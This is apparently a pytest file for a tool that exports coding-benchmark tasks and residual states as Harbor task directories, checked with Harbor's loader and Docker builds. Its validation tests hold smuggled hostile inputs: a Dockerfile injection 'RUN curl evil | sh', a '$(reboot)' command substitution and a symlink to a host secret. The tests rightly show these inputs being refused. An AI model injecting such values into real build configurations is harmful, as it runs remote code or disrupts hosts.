"""`swe-residual export harbor`: every (task, start) of a track as a Harbor task dir.

Checked against the real parts: the demo track and the DeepSWE-shaped fixture exported through the
CLI, Harbor's own task model (the `harbor` package from PyPI, in a Python >= 3.12 venv) loading
every exported dir, and Docker building residual environments whose containers must hold the state
uncommitted.
"""

from __future__ import annotations

import fcntl
import filecmp
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from swe_residual.backends import repo
from swe_residual.errors import InputError
from swe_residual.harbor.export import (
    EXPORT_FORMAT,
    export_tasks,
    harbor_slug,
    rewrite_task_toml,
)
from swe_residual.patches import parse_patch, patch_files
from swe_residual.states import load_states
from swe_residual.tasks import load_tasks

from .taskfactory import docker_task, partial_state_patch, state_entry, write_states

ROOT = Path(__file__).resolve().parent.parent
DEEPSWE = ROOT / "tests" / "fixtures" / "deepswe"
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}
HARBOR_SPEC = os.environ.get("SWE_RESIDUAL_HARBOR_SPEC", "harbor==0.26.0")
REQUIRE_HARBOR = "SWE_RESIDUAL_REQUIRE_HARBOR"

# The demo track: 8 tasks; states.yaml lists 2+2+3+2+2+2+2+2 = 17 states for them.
DEMO_TASKS, DEMO_STATES = 8, 17


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "swe_residual.cli", *args], cwd=ROOT, env=ENV,
                          capture_output=True, text=True, timeout=300, check=False)


def same_tree(a: Path, b: Path) -> bool:
    cmp = filecmp.dircmp(a, b)
    if cmp.left_only or cmp.right_only or cmp.funny_files:
        return False
    _, mismatch, errors = filecmp.cmpfiles(a, b, cmp.common_files, shallow=False)
    return not mismatch and not errors and all(same_tree(a / d, b / d) for d in cmp.common_dirs)


@pytest.fixture(scope="module")
def demo_export(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exp") / "demo"
    res = cli("export", "harbor", "--track", "demo", "--out", str(out))
    assert res.returncode == 0, res.stderr
    assert f"exported {DEMO_TASKS + DEMO_STATES} Harbor task dirs ({DEMO_TASKS} clean, {DEMO_STATES} residual)" \
        in res.stdout
    return out


@pytest.fixture(scope="module")
def deepswe_export(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exp") / "deepswe"
    res = cli("export", "harbor", "--track", "deepswe", "--tasks-dir", str(DEEPSWE),
              "--states", str(DEEPSWE / "states.yaml"), "--out", str(out))
    assert res.returncode == 0, res.stderr
    return out


def test_demo_export_index_and_clean_copies(demo_export):
    index = json.loads((demo_export / "export.json").read_text())
    assert index["format"] == EXPORT_FORMAT and index["track"] == "demo" and index["n_tasks"] == 25
    entries = index["tasks"]
    dirs = sorted(p.name for p in demo_export.iterdir() if p.is_dir())
    assert sorted(e["name"] for e in entries) == dirs and len(dirs) == 25
    assert len({e["harbor_name"] for e in entries}) == 25
    states = yaml.safe_load((ROOT / "states.yaml").read_text())["states"]
    demo_ids = sorted(s["id"] for s in states if s["track"] == "demo")
    assert sorted(e["state_id"] for e in entries if e["start"] == "residual") == demo_ids
    for e in entries:
        if e["start"] == "clean":
            # the clean start is the task dir, byte for byte
            assert same_tree(ROOT / "suites" / "demo" / "tasks" / e["source"], demo_export / e["name"]), e["name"]
            assert e["state_id"] is None and e["harbor_name"] == e["name"] == e["task"]


def test_demo_residual_dirs(demo_export):
    states = {s.id: s for s in load_states(ROOT / "states.yaml", {"demo": load_tasks(ROOT / "suites/demo/tasks", "demo")},
                                           tracks={"demo"})}
    index = json.loads((demo_export / "export.json").read_text())
    for e in (e for e in index["tasks"] if e["start"] == "residual"):
        state, src, dest = states[e["state_id"]], ROOT / "suites/demo/tasks" / e["source"], demo_export / e["name"]
        assert e["name"] == state.id       # demo state ids are already '<task>--<what>'
        assert filecmp.cmp(src / "instruction.md", dest / "instruction.md", shallow=False)
        assert same_tree(src / "tests", dest / "tests") and same_tree(src / "solution", dest / "solution")
        # task.toml: the original data plus [metadata.swe_residual], nothing else
        got = tomllib.loads((dest / "task.toml").read_text())
        want = tomllib.loads((src / "task.toml").read_text())
        ours = got["metadata"].pop("swe_residual")
        assert got == want
        assert ours == {"format": EXPORT_FORMAT, "track": "demo", "task": state.task, "start": "residual",
                        "state_id": state.id, "predecessor_agent": "handwritten",
                        "predecessor_model_family": "handwritten", "state_patch_sha256": state.artifact.sha256,
                        "failing_tests": state.initial_verdict.failing_tests}
        assert e["failing_tests"] == state.initial_verdict.failing_tests
        # the environment: the clean build context plus the state, and the Dockerfile extended at its end
        env = dest / "environment"
        assert same_tree(src / "environment" / "repo", env / "repo")
        clean_df = (src / "environment" / "Dockerfile").read_text()
        df = (env / "Dockerfile").read_text()
        assert df.startswith(clean_df.rstrip("\n") + "\n")
        assert df.rstrip().splitlines()[-2:] == ["COPY .swe-residual /tmp/.swe-residual-state",
                                                 'RUN ["/bin/sh", "/tmp/.swe-residual-state/apply-state.sh"]']
        patch = (env / ".swe-residual" / "state.patch").read_bytes()
        assert hashlib.sha256(patch).hexdigest() == state.artifact.sha256 == e["state_patch_sha256"]
        assert (env / ".swe-residual" / "apply_patch.sh").read_bytes() == \
            (ROOT / "swe_residual/backends/scripts/apply_patch.sh").read_bytes()


def test_start_selects_what_is_exported(tmp_path):
    assert cli("export", "harbor", "--track", "demo", "--start", "clean", "--out", str(tmp_path / "c")).returncode == 0
    assert len(json.loads((tmp_path / "c" / "export.json").read_text())["tasks"]) == DEMO_TASKS
    assert cli("export", "harbor", "--track", "demo", "--start", "residual", "--out", str(tmp_path / "r")).returncode == 0
    starts = {e["start"] for e in json.loads((tmp_path / "r" / "export.json").read_text())["tasks"]}
    assert starts == {"residual"} and len(list((tmp_path / "r").iterdir())) == DEMO_STATES + 1


def test_out_must_be_new_or_empty(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    res = cli("export", "harbor", "--track", "demo", "--out", str(tmp_path / "out"))
    assert res.returncode == 2
    want = f"error: --out {tmp_path / 'out'}: exists and is not an empty dir; choose a new one"
    assert res.stderr.strip().splitlines() == [want]
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["keep.txt"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]      # no half-written temp dir left


def test_deepswe_residual_starts_from_the_prebuilt_image(deepswe_export):
    index = json.loads((deepswe_export / "export.json").read_text())
    by_start = {e["start"]: e for e in index["tasks"]}
    clean, res = by_start["clean"], by_start["residual"]
    assert same_tree(DEEPSWE / "wordstats-top-words", deepswe_export / clean["name"])
    assert clean["harbor_name"] == "swe-residual/wordstats-top-words"
    assert res["name"] == "wordstats-top-words--ties-by-first-seen"
    assert res["harbor_name"] == "swe-residual/wordstats-top-words--ties-by-first-seen"
    image = "swe-residual-fixtures/deepswe:swr-wordstats-top-words-v1.1"
    assert res["from_image"] == image
    dest = deepswe_export / res["name"]
    # Harbor would use docker_image instead of the Dockerfile: it is dropped, [task] name renamed
    got = tomllib.loads((dest / "task.toml").read_text())
    want = tomllib.loads((DEEPSWE / "wordstats-top-words" / "task.toml").read_text())
    assert want["environment"].pop("docker_image") == image and "docker_image" not in got["environment"]
    want["task"]["name"] = res["harbor_name"]
    assert got["metadata"].pop("swe_residual")["state_id"] == "wordstats-top-words--ties-by-first-seen"
    assert got == want
    assert sorted(p.name for p in (dest / "environment").iterdir()) == [".swe-residual", "Dockerfile"]
    assert (dest / "environment" / "Dockerfile").read_text().splitlines()[0] == f"FROM {image}"
    script = (dest / "environment" / ".swe-residual" / "apply-state.sh").read_text()
    assert "base='491efc2f74f356d3bcee86f64cf0a65bcec8acdd'" in script   # HEAD is checked against it
    # the separate verifier still builds on the clean image
    assert same_tree(DEEPSWE / "wordstats-top-words" / "tests", dest / "tests")


# -- hostile or unsupported input --------------------------------------------------------------
def _calc(tmp_path: Path, **kw):
    task = docker_task(tmp_path, **kw)
    states_path = write_states(tmp_path, [state_entry(tmp_path, task, partial_state_patch(task))])
    return task, states_path


def _export(tmp_path: Path, states_path: Path, out: str = "out", start: str = "both"):
    tasks = load_tasks(tmp_path / "tasks", "demo")
    states = load_states(states_path, {"demo": tasks}, tracks={"demo"})
    return export_tasks(tasks, states, tmp_path / out, track="demo", start=start)


def test_symlink_leaving_the_task_is_refused(tmp_path):
    task, states_path = _calc(tmp_path)
    (tmp_path / "secret.txt").write_text("host secret")
    (task / "environment" / "repo" / "leak.txt").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(InputError, match=r"leak.txt: symlink to .*secret.txt leaves the task dir"):
        _export(tmp_path, states_path)
    assert not (tmp_path / "out").exists() and not list(tmp_path.glob(".out.export-*"))
    # a relative link that stays inside is kept as a link
    (task / "environment" / "repo" / "leak.txt").unlink()
    (task / "environment" / "repo" / "alias.py").symlink_to("calc.py")
    _export(tmp_path, states_path)
    assert os.readlink(tmp_path / "out" / "calc--partial" / "environment" / "repo" / "alias.py") == "calc.py"


@pytest.mark.parametrize("line, message", [
    ('[environment]\ndocker_image = "x\\nRUN curl evil | sh"\n', r"environment.docker_image: .* is not an image reference"),
    ('[environment]\ndocker_image = "img:1"\n[verifier]\nenvironment_mode = "separate"\n',
     r"separate verifier without tests/Dockerfile"),
])
def test_bad_environments_are_refused(tmp_path, line, message):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text().replace("[environment]\n", "[environment_old]\n")
    text = text.replace("[verifier]\n", "[verifier_old]\n") if "[verifier]" in line else text
    (task / "task.toml").write_text(text + line)
    with pytest.raises(InputError, match=message):
        _export(tmp_path, states_path)


def test_base_commit_must_be_hex(tmp_path):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text()
    (task / "task.toml").write_text(text.replace('[metadata]\n', "[metadata]\nbase_commit_hash = \"$(reboot)\"\n"))
    with pytest.raises(InputError, match=r"metadata.base_commit_hash: '\$\(reboot\)' is not a commit hash"):
        _export(tmp_path, states_path)


def test_inline_metadata_cannot_be_extended(tmp_path):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text()
    start, end = text.index("[metadata]"), text.index("[agent]")
    (task / "task.toml").write_text(text[:start] + 'metadata = {task_id = "calc", repository_dir = "environment/repo"}\n'
                                    + text[end:])
    with pytest.raises(InputError, match=r"task.toml: cannot add \[metadata.swe_residual\]"):
        _export(tmp_path, states_path)


def test_metadata_values_round_trip_through_toml():
    # failing test ids are free text: quotes, backslashes, control characters, DEL, non-ASCII
    odd = ['t["a\\"b"]', "line\nbreak\ttab\x00nul\x7fdel", "ünïcödé ✓ \U0001f600"]
    text = '[task]\nname = "org/x"\n\n[environment]\ndocker_image = "img:1"  # prebuilt\ncpus = 2\n'
    out = rewrite_task_toml(text, Path("task.toml"), metadata={"failing_tests": odd, "state_id": 'a"b'},
                            new_name="org/x--s", drop_docker_image=True)
    assert tomllib.loads(out) == {"task": {"name": "org/x--s"}, "environment": {"cpus": 2},
                                  "metadata": {"swe_residual": {"failing_tests": odd, "state_id": 'a"b'}}}
    assert "# docker_image = \"img:1\"  # prebuilt" in out      # kept visible, as a comment


def test_slugs_are_harbor_names():
    assert harbor_slug("Calc_Task v2") == "calc_task-v2"
    assert harbor_slug("..a..b..") == "a.b"
    assert harbor_slug("ÄÖ") .startswith("task-")
    long = harbor_slug("x" * 300)
    assert len(long) == 100 and long.startswith("x" * 91 + "-")


# -- Harbor's own task model --------------------------------------------------------------------
def python312() -> str | None:
    """A CPython >= 3.12 on this machine: $SWE_RESIDUAL_PYTHON312, .ci/python312.sh's prefix, PATH."""
    candidates = [os.environ.get("SWE_RESIDUAL_PYTHON312", ""),
                  os.environ.get("SWE_RESIDUAL_PYTHON312_PREFIX", "/opt/swe-residual/python3.13") + "/bin/python3.13",
                  *(shutil.which(f"python3.{m}") or "" for m in (14, 13, 12))]
    for c in candidates:
        if c and os.access(c, os.X_OK):
            ok = subprocess.run([c, "-c", "import sys, venv, ssl; sys.exit(sys.version_info < (3, 12))"],
                                capture_output=True, check=False)
            if ok.returncode == 0:
                return c
    return None


def harbor_unavailable(reason: str):
    if os.environ.get(REQUIRE_HARBOR, "").strip() == "1":
        pytest.fail(f"{REQUIRE_HARBOR}=1 but {reason}", pytrace=False)
    pytest.skip(reason)


@pytest.fixture(scope="module")
def harbor_python() -> str:
    """Python of a venv holding the `harbor` package (made once, kept in the cache dir)."""
    py = python312()
    if py is None:
        harbor_unavailable("no Python >= 3.12 for the harbor package (run .ci/python312.sh)")
    version = subprocess.run([py, "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
                             capture_output=True, text=True, check=True).stdout.strip()
    cache = Path(os.environ.get("SWE_RESIDUAL_CACHE")
                 or Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "swe-residual")
    venv = cache / f"harbor-venv-py{version}-{harbor_slug(HARBOR_SPEC)}"
    vpy = venv / "bin" / "python"
    venv.parent.mkdir(parents=True, exist_ok=True)
    with open(f"{venv}.lock", "w") as lock:       # xdist workers: one of them makes the venv
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (venv / ".complete").is_file():
            _make_harbor_venv(py, venv)
    return str(vpy)


def _make_harbor_venv(py: str, venv: Path) -> None:
    vpy = venv / "bin" / "python"
    shutil.rmtree(venv, ignore_errors=True)
    made = subprocess.run([py, "-m", "venv", str(venv)], capture_output=True, text=True, check=False)
    pip = made.returncode == 0 and subprocess.run(
        [str(vpy), "-m", "pip", "install", "-q", "--disable-pip-version-check", HARBOR_SPEC],
        capture_output=True, text=True, timeout=1200, check=False)
    if made.returncode != 0 or pip.returncode != 0:
        err = (made.stderr if made.returncode else pip.stderr).strip().splitlines()
        shutil.rmtree(venv, ignore_errors=True)
        harbor_unavailable(f"cannot install {HARBOR_SPEC} with {py}: {err[-1] if err else 'no output'}")
    (venv / ".complete").write_text(HARBOR_SPEC + "\n")


# Runs in the harbor venv: loads each task dir with Harbor's Task model and reports what Harbor
# would do with it.
LOAD_WITH_HARBOR = r"""
import json, sys
from pathlib import Path
from harbor.models.task.task import Task
from harbor.environments.definition import should_use_prebuilt_docker_image
out = {}
for d in sorted(p for p in Path(sys.argv[1]).iterdir() if p.is_dir()):
    t = Task(d)
    env = t.config.environment
    out[d.name] = {"name": t.name, "valid": Task.is_valid_dir(d), "metadata": t.config.metadata,
                   "docker_image": env.docker_image,
                   "uses_prebuilt": should_use_prebuilt_docker_image(t.paths.environment_dir,
                                                                     docker_image=env.docker_image, force_build=False),
                   "builds_dockerfile": (t.paths.environment_dir / "Dockerfile").is_file(),
                   "instruction": t.instruction}
print(json.dumps(out))
"""


def load_with_harbor(python: str, export_dir: Path) -> dict:
    res = subprocess.run([python, "-c", LOAD_WITH_HARBOR, str(export_dir)], capture_output=True, text=True,
                         timeout=600, check=False)
    assert res.returncode == 0, res.stderr[-3000:]
    return json.loads(res.stdout)


def test_harbor_loads_every_exported_dir(harbor_python, demo_export, deepswe_export):
    index = {e["name"]: e for e in json.loads((demo_export / "export.json").read_text())["tasks"]}
    loaded = load_with_harbor(harbor_python, demo_export)
    assert sorted(loaded) == sorted(index) and len(loaded) == 25
    for name, t in loaded.items():
        e = index[name]
        assert t["valid"] and t["name"] == e["harbor_name"] and t["builds_dockerfile"] and not t["uses_prebuilt"]
        assert t["instruction"] == (ROOT / "suites/demo/tasks" / e["source"] / "instruction.md").read_text()
        if e["start"] == "residual":
            assert t["metadata"]["swe_residual"]["state_id"] == e["state_id"]
            assert t["metadata"]["task_id"] == e["task"]          # the task's own metadata is kept
        else:
            assert "swe_residual" not in t["metadata"]
    deep = load_with_harbor(harbor_python, deepswe_export)
    clean, res = deep["wordstats-top-words"], deep["wordstats-top-words--ties-by-first-seen"]
    assert clean["valid"] and res["valid"]
    # Harbor runs the clean start on the prebuilt image and builds the residual one's Dockerfile
    assert clean["uses_prebuilt"] and clean["docker_image"] == "swe-residual-fixtures/deepswe:swr-wordstats-top-words-v1.1"
    assert not res["uses_prebuilt"] and res["docker_image"] is None and res["builds_dockerfile"]
    assert res["name"] == "swe-residual/wordstats-top-words--ties-by-first-seen" != clean["name"]


# -- Docker: the residual environment holds the state, uncommitted -------------------------------
def _in_container(client, image: str, script: str) -> str:
    c = client.containers.run(image, ["sh", "-c", script], detach=True, network_mode="none")
    try:
        rc = c.wait(timeout=120)["StatusCode"]
        out = c.logs(stdout=True, stderr=True).decode("utf-8", "replace")
        assert rc == 0, out
        return out
    finally:
        c.remove(force=True)


def _build(client, context: Path, tag: str) -> str:
    import docker.errors

    try:
        image, _ = client.images.build(path=str(context), tag=tag, rm=True, forcerm=True)
    except docker.errors.BuildError as exc:   # show the build log's tail
        log = "".join(x.get("stream", "") for x in getattr(exc, "build_log", []) or [])
        pytest.fail(f"docker build of {context} failed: {exc}\n{log[-3000:]}", pytrace=False)
    return image.id


def check_state_uncommitted(client, image: str, base: str, patch: bytes) -> None:
    sep = "=====swe-residual====="
    out = _in_container(client, image, f"""cd /app && git -c safe.directory='*' rev-parse HEAD && echo {sep} &&
        git -c safe.directory='*' rev-list --count HEAD && echo {sep} &&
        git -c safe.directory='*' status --porcelain -uall && echo {sep} &&
        cp -r /app /tmp/w && cd /tmp/w && git -c safe.directory='*' add -A &&
        git -c safe.directory='*' diff --cached --binary HEAD && echo {sep} &&
        ls -a /tmp""")
    head, count, status, diff, tmp = out.split(sep + "\n")
    assert head.strip() == base and count.strip() == "1"        # HEAD is the base commit, no new commit
    changed = sorted(line[3:] for line in status.splitlines() if line.strip())
    assert changed == sorted(patch_files(patch))                 # git status shows exactly the state's files
    assert all(line[:2] in (" M", "??", " D") for line in status.splitlines() if line.strip())   # nothing staged
    got, want = parse_patch(diff.encode()), parse_patch(patch)
    assert sorted(got) == sorted(want)
    for path, fd in want.items():                                # same content as the state's patch
        assert (got[path].added, got[path].deleted, got[path].binary) == (fd.added, fd.deleted, fd.binary), path
    assert ".swe-residual-state" not in tmp.split()              # the build's copy of the state is gone


@pytest.mark.docker
def test_docker_builds_demo_residual_task(docker_client, bookworm_image, demo_export, tmp_path):
    # date-range-merge--changelog-claims-done: 4 changed files and a new CHANGELOG.md
    name = "date-range-merge--changelog-claims-done"
    patch = (demo_export / name / "environment" / ".swe-residual" / "state.patch").read_bytes()
    assert len(patch_files(patch)) == 5
    base = repo.init_base_repo(ROOT / "suites/demo/tasks/date-range-merge/environment/repo", tmp_path / "base")
    image = _build(docker_client, demo_export / name / "environment", "swe-residual-test/export-harbor:demo")
    try:
        check_state_uncommitted(docker_client, image, base, patch)
    finally:
        docker_client.images.remove(image, force=True)


@pytest.mark.docker
def test_docker_builds_residual_through_dockerignore(docker_client, bookworm_image, tmp_path):
    # a build context that excludes everything but repo/ still gets the state; the state has a
    # binary file (logo.bin) and a new NOTES.md
    task, states_path = _calc(tmp_path)
    (task / "environment" / ".dockerignore").write_text("*\n!repo\n")
    _export(tmp_path, states_path, start="residual")
    env = tmp_path / "out" / "calc--partial" / "environment"
    assert (env / ".dockerignore").read_text().endswith("!.swe-residual\n!.swe-residual/**\n")
    patch = (env / ".swe-residual" / "state.patch").read_bytes()
    assert sorted(patch_files(patch)) == ["NOTES.md", "calc.py", "logo.bin"]
    base = repo.init_base_repo(task / "environment" / "repo", tmp_path / "base")
    image = _build(docker_client, env, "swe-residual-test/export-harbor:calc")
    try:
        check_state_uncommitted(docker_client, image, base, patch)
    finally:
        docker_client.images.remove(image, force=True)
